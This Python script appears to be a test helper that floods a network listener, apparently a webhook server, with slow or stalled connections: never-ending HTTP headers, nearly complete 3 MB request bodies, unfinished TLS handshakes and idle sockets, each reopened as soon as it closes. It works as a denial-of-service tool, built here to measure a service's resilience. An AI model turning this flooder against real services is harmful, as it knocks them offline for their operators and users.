"""What a pod without credentials can do to a listener: `python flood.py HOST:PORT SECONDS
KIND=COUNT...`, with `@ADDRESS` after a count to come from one of loopback. It ends by itself, and
needs the standard library only.

A connection that is closed is opened again, so that the flood goes on. Prints one line when each
connection was opened once, and how many were opened in all at its end.
"""

from __future__ import annotations

import asyncio
import contextlib
import logging
import resource
import ssl
import sys
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

    Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]

UNFINISHED = b"POST /mutate HTTP/1.1\r\nHost: x\r\nContent-Length: 3000000\r\n\r\n"
BODY_BYTES = 2_900_000
AGAIN_S = 0.2
"""Before a connection that was closed is opened again."""
SLOW_S = 0.5
AT_ONCE = 200
"""Connections of one kind that are being opened: each costs this process a handshake."""
HELLO = b"\x16\x03\x01\x02\x00\x01\x00"
"""The first bytes of a ClientHello of 512 bytes."""


async def until_closed(reader: asyncio.StreamReader) -> None:
    """Whatever comes."""
    with contextlib.suppress(OSError):
        while await reader.read(65_536):
            pass


async def body(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """2.9 MB of 3 MB, as fast as they are taken."""
    writer.write(UNFINISHED)
    for _ in range(BODY_BYTES // 50_000):
        writer.write(b" " * 50_000)
        await writer.drain()
    await until_closed(reader)


async def idle(reader: asyncio.StreamReader, _: asyncio.StreamWriter) -> None:
    """Nothing."""
    await until_closed(reader)


async def head(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A head that never ends."""
    writer.write(b"POST /mutate HTTP/1.1\r\n")
    closed = asyncio.create_task(until_closed(reader))
    while not closed.done():
        writer.write(b"x: y\r\n")
        await asyncio.wait([closed], timeout=SLOW_S)
    await closed


async def hello(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A handshake that never ends."""
    writer.write(HELLO)
    await until_closed(reader)


async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Complete requests, one after the other: such a connection has not waited long."""
    while True:
        writer.write(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
        if not await reader.read(65_536):
            return
        await asyncio.sleep(SLOW_S)


async def page(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """One complete request, and its answer."""
    writer.write(b"GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    await until_closed(reader)


KINDS: dict[
    str, tuple[Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]], bool]
]
KINDS = {
    "body": (body, True),
    "idle": (idle, True),
    "head": (head, True),
    "hello": (hello, False),
    "answer": (answer, True),
    "page": (page, True),
    "plain-idle": (idle, False),
    "plain-page": (page, False),
}
RELEASED = {"page", "plain-page"}
"""They act for the first time when all connections have been opened, all at once. The flood's time
begins then.
"""
OPENING_S = 120.0
"""Until all connections have been opened, at most."""


class Flood:
    """All connections of one run."""

    def __init__(self, host: str, port: int) -> None:
        self._target = (host, port)
        self._context = _context()
        self.opened = 0
        self.first = 0
        self.released = asyncio.Event()

    async def one(self, kind: str, address: str, gate: asyncio.Semaphore) -> None:
        """One connection, over and over, until cancelled."""
        act, secure = KINDS[kind]
        context = self._context if secure else None
        first = True
        while True:
            with contextlib.suppress(OSError, EOFError, TimeoutError):
                async with gate:
                    streams = await self._open(address, context)
                    self.opened += 1
                if first:
                    first, self.first = False, self.first + 1
                if kind in RELEASED:
                    await self.released.wait()
                await _closing(streams, act)
            await asyncio.sleep(AGAIN_S)

    async def _open(self, address: str, context: ssl.SSLContext | None) -> Streams:
        source = (address, 0) if address else None
        async with asyncio.timeout(10):
            return await asyncio.open_connection(*self._target, ssl=context, local_addr=source)


async def _closing(
    streams: Streams,
    act: Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]],
) -> None:
    try:
        await act(*streams)
    finally:
        streams[1].transport.abort()


def _context() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


async def main(target: str, seconds: float, wanted: list[str]) -> None:
    """Floods for so long."""
    host, _, port = target.rpartition(":")
    flood = Flood(host, int(port))
    tasks = []
    for each in wanted:
        kind, _, rest = each.partition("=")
        count, _, address = rest.partition("@")
        gate = asyncio.Semaphore(AT_ONCE)
        tasks += [asyncio.create_task(flood.one(kind, address, gate)) for _ in range(int(count))]
    loop = asyncio.get_running_loop()
    waits = any(each.partition("=")[0] in RELEASED for each in wanted)
    until = loop.time() + (OPENING_S if waits else seconds)
    said = False
    while loop.time() < until:
        await asyncio.sleep(0.1)
        if flood.first == len(tasks) and not said:
            said = True
            flood.released.set()
            until = loop.time() + seconds if waits else until
            print("all", flush=True)  # noqa: T201 - a process of the test
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(flood.opened, flush=True)  # noqa: T201 - the test reads it


if __name__ == "__main__":
    logging.getLogger("asyncio").disabled = True  # it tells of each connection that was closed
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(main(sys.argv[1], float(sys.argv[2]), sys.argv[3:]))
